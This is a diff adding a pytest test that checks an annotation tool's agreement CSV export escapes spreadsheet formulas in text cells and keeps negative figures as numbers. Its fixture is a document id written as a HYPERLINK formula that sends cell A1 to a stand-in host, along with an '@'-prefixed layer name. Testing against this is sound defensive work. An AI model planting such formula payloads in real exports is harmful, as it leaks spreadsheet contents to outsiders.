@@ -92,6 +92,32 @@ def test_compare_and_agree_outputs(tmp_path: Path, capsys: pytest.CaptureFixture
     assert "Krippendorff" in capsys.readouterr().out
 
 
+def test_agree_csv_guards_text_cells_not_numbers(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A release id from a file named ``=HYPERLINK(…).txt`` and a layer named ``@eve`` reach
+    the agreement CSV: a spreadsheet must show them, not run them. Negative figures stay
+    numbers."""
+    from annotator.model import Document
+
+    p = project(layers=("@eve", "bob"))
+    p.add_document(Document(id='=HYPERLINK("http://x.example/?"&A1)', text=TEXT))
+    doc = next(iter(p.documents))
+    add(p, "@eve", doc, "appeal", (8, 30))
+    add(p, "bob", doc, "appeal", (30, 56))
+    add(p, "bob", doc, "victim", (41, 45))
+    path = tmp_path / "eve.xml"
+    project_xml.save_project(p, path)
+    assert main(["agree", str(path), "--layers", "@eve,bob", "--csv", "--per-document"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    scopes = {r["scope"] for r in rows}
+    assert scopes == {"project", "'" + doc}
+    assert {r["layers"][:2] for r in rows} == {"'@"}
+    assert all(r["measure"][0] not in "=+-@" and r["tag"][0] not in "=+-@" for r in rows)
+    values = [float(r["value"]) for r in rows if r["value"]]
+    assert any(v < 0 for v in values)  # e.g. κ below chance, written as a number
+
+
 def test_bad_input_is_one_sentence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     a, _ = _files(tmp_path)
     assert main(["agree", str(a), "--layers", "alice,nobody"]) == 1
